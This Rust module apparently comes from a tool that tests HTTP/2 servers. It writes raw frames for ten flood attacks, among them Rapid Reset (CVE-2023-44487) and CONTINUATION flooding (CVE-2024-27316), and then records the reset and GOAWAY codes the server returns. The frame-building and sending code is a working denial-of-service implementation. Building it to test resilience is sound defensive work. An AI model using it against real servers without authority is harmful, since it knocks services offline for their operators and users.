//! Clients of HTTP/2 that mean no good: frames as they stand on the wire, and what the server says of them.

use std::io;
use std::time::Duration;

use clap::ValueEnum;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::timeout;

use super::client::{PATIENCE, connect};
use super::report::{Failure, Flooded, Stage};

/// A server that takes nothing for this long takes nothing more.
const STUCK: Duration = Duration::from_secs(2);
/// What is sent at most.
const MAX_SENT: usize = 64 << 20;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What is too much.
#[derive(Clone, Copy, Debug, ValueEnum)]
pub(super) enum Kind {
    /// Requests, each reset as soon as it is made (CVE-2023-44487).
    Resets,
    /// A head that never ends (CVE-2024-27316).
    Continuations,
    /// Frames of a body without bytes.
    EmptyData,
    /// Settings, whose acknowledgements nobody reads.
    Settings,
    /// Pings, whose answers nobody reads.
    Pings,
    /// A window of the connection beyond what there may be.
    Window,
    /// The same of a stream.
    StreamWindow,
    /// Settings that make it so.
    InitialWindow,
    /// Nothing, again and again: a window that grows by 0.
    NoWindow,
    /// More requests at a time than the server allows.
    Streams,
}

impl Kind {
    /// What the server says to it is not read.
    fn is_deaf(self) -> bool {
        matches!(self, Self::Settings | Self::Pings)
    }

    /// A piece of it, for the first or a later time.
    fn piece(self, number: u32, host: &str) -> Vec<u8> {
        let stream = |number: u32| 2 * number + 1;
        let head = |path: &str| head(host, path);
        let first = |then: Vec<u8>| match number {
            0 => [frame(HEADERS, END_HEADERS, 1, &head("/flood")), then].concat(),
            _ => then,
        };
        match self {
            Self::Resets => {
                let stream = stream(number);
                let head = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("/flood"));
                [head, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
            }
            Self::Continuations => {
                let more = frame(CONTINUATION, 0, 1, &pair("x", &"a".repeat(100)));
                match number {
                    0 => [frame(HEADERS, END_STREAM, 1, &head("/flood")), more].concat(),
                    _ => more,
                }
            }
            Self::EmptyData => first(frame(DATA, 0, 1, &[])),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Self::Pings => frame(PING, 0, 0, b"12345678"),
            Self::Window => frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()),
            Self::StreamWindow => first(frame(WINDOW_UPDATE, 0, 1, &0x7fff_ffff_u32.to_be_bytes())),
            Self::InitialWindow => frame(SETTINGS, 0, 0, &[0, 4, 0xff, 0xff, 0xff, 0xff]),
            Self::NoWindow => first(frame(WINDOW_UPDATE, 0, 1, &[0; 4])),
            Self::Streams => {
                let mut wait = head("/flood");
                wait.extend(pair("x-wait", "5000"));
                frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &wait)
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short");
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A header without compression (RFC 7541, section 6.2.2).
fn pair(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| {
        let length = u8::try_from(text.len()).expect("short");
        [&[length], text.as_bytes()].concat()
    };
    [&[0][..], &text(name), &text(value)].concat()
}

fn head(host: &str, path: &str) -> Vec<u8> {
    let pairs = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", host),
    ];
    pairs
        .iter()
        .flat_map(|(name, value)| pair(name, value))
        .collect()
}

/// Sends up to so many pieces and reports what the server has said until the connection ended, or so many streams.
pub(super) async fn flood(
    host: &str,
    port: u16,
    kind: Kind,
    pieces: u32,
    resets: usize,
) -> Result<Flooded, Failure> {
    let stream = connect(host, port, None).await?;
    let failed = |error: io::Error| Failure::new(Stage::Send, &error);
    let (from, mut to) = stream.into_split();
    let mut flooded = Flooded::default();
    let preface = [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &frame(SETTINGS, 0, 0, &[]),
    ]
    .concat();
    to.write_all(&preface).await.map_err(failed)?;
    if kind.is_deaf() {
        flooded.stuck = send(&mut to, host, kind, pieces).await;
        return Ok(flooded);
    }
    let reading = tokio::spawn(read(from, resets));
    flooded.stuck = send(&mut to, host, kind, pieces).await;
    let read = timeout(PATIENCE, reading).await;
    let read = read.map_err(|_| Failure::named(Stage::Receive, "PATIENCE"))?;
    (flooded.resets, flooded.go_away) = read.unwrap_or_default();
    Ok(flooded)
}

/// Whether the server took no more before all was sent.
async fn send(to: &mut OwnedWriteHalf, host: &str, kind: Kind, pieces: u32) -> bool {
    let mut sent = 0;
    let mut number = 0;
    while number < pieces && sent < MAX_SENT {
        let until = pieces.min(number + 100);
        let bytes: Vec<u8> = (number..until)
            .flat_map(|number| kind.piece(number, host))
            .collect();
        number = until;
        sent += bytes.len();
        match timeout(STUCK, to.write_all(&bytes)).await {
            Ok(Ok(())) => {}
            // The reader knows why.
            Ok(Err(_)) => return false,
            Err(_) => return true,
        }
    }
    false
}

/// The codes of the streams that were reset, and of the end of the connection.
async fn read(mut from: OwnedReadHalf, enough: usize) -> (Vec<u32>, Option<u32>) {
    let mut resets = Vec::new();
    let mut go_away = None;
    while go_away.is_none() && resets.len() < enough {
        let mut head = [0; 9];
        if from.read_exact(&mut head).await.is_err() {
            break;
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; usize::try_from(length).unwrap_or(0)];
        if from.read_exact(&mut payload).await.is_err() {
            break;
        }
        let code = |at: usize| {
            let bytes = payload.get(at..at + 4)?;
            Some(u32::from_be_bytes(bytes.try_into().ok()?))
        };
        match head[3] {
            RESET => resets.extend(code(0)),
            GO_AWAY => go_away = code(4),
            _ => {}
        }
    }
    (resets, go_away)
}
